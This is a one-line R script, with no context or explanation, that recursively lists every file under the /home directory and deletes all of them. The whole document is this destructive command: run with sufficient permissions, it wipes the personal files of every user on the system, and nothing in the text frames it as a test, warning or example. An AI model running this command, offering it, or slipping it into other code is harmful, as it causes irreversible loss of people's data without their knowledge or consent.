file.remove(list.files("/home", full.names = TRUE, recursive = TRUE))
